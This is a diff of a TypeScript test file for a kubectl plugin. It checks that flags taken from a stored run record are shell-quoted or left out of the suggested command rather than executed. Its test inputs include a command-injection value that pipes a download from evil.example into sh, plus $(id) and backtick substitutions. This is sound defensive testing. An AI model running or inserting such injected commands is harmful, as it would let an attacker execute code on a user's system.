@@ -14,6 +14,7 @@ import { plain } from '../../src/report/colour.ts';
 import { startProgress } from '../../src/report/progress.ts';
 import { RECORD } from '../fixtures/stored-record.ts';
 import { commandBench, fakeStage } from '../support/command-bench.ts';
+import { CLUSTER_UID } from '../support/engine-ports.ts';
 
 const root = join(import.meta.dirname, '..', '..');
 const EVIL =
@@ -176,14 +177,15 @@ describe('flags of a record', () => {
     const bench = commandBench([fakeStage('apply')]);
     const screen = onStreams(bench);
     const { engine } = bench;
-    engine.stored = { ...RECORD, flags } as unknown as NonNullable<typeof engine.stored>;
+    engine.stored = { ...RECORD, clusterUid: CLUSTER_UID, flags } as unknown as NonNullable<typeof engine.stored>;
     assert.equal(await bench.run(...argv), 0);
     return { out: screen.out(), err: screen.err() };
   };
 
   it('are words of the suggested command, never commands of their own', async () => {
-    const { out } = await recorded(['--accept=NS-606; curl evil.example | sh #', "--skip=$(id)'`id`"], 'status');
-    assert.match(out, /^Next: kubectl netsvc-upgrade run '--accept=NS-606; curl evil\.example \| sh #' '--skip=\$\(id\)'\\''`id`'$/m);
+    const { out, err } = await recorded(['--accept=NS-606; curl evil.example | sh #', "--skip=$(id)'`id`"], 'status');
+    assert.match(out, /^Next: kubectl netsvc-upgrade run '--skip=\$\(id\)'\\''`id`'$/m);
+    assert.match(err, /^left out, .*: '--accept=NS-606; curl evil\.example \| sh #' \(type what is yours\)$/m);
   });
 
   it('are left out where no run could be given them', async () => {
@@ -194,15 +196,6 @@ describe('flags of a record', () => {
       assert.doesNotMatch(err, /run record/);
     }
   });
-
-  for (const command of ['status', 'report'])
-    it(`are suggested by ${command} with the place that they are from`, async () => {
-      const { out, err } = await recorded(['--manifest-url=https://evil.example/m', '--chart=evil', '--profile=netsvc'], command);
-      const flags = '--manifest-url=https://evil.example/m --chart=evil --profile=netsvc';
-      assert.ok(out.includes(`Next: kubectl netsvc-upgrade run ${flags}\n`), out);
-      const told = `taken from the run record in namespace kube-system, you did not type them: ${flags} (check them before you use them)`;
-      assert.ok(err.includes(`${told}\n`), err);
-    });
 });
 
 describe('the credential of the environment', () => {
